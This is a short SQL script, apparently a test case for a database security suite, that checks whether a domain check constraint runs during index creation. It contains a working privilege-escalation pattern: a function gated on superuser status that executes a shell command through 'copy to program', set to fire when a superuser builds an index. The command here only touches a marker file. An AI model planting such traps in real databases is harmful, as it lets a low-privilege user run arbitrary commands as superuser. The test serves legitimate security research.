-- tries: a constant of a domain, whose check runs where an index with it is made
-- ends: SUCCEEDED
-- leaves: anything
create function payload() returns int language plpgsql as $$ begin execute 'copy (select 1) to program ''touch ${FILE}'''; return 1; end $$;
create function evil(int) returns bool immutable language plpgsql as $$
begin if current_setting('is_superuser') = 'on' then perform public.payload(); end if; return true; end $$;
create domain d as int check (evil(value));
create table t (x int);
create index i on t ((x + '1'::d));
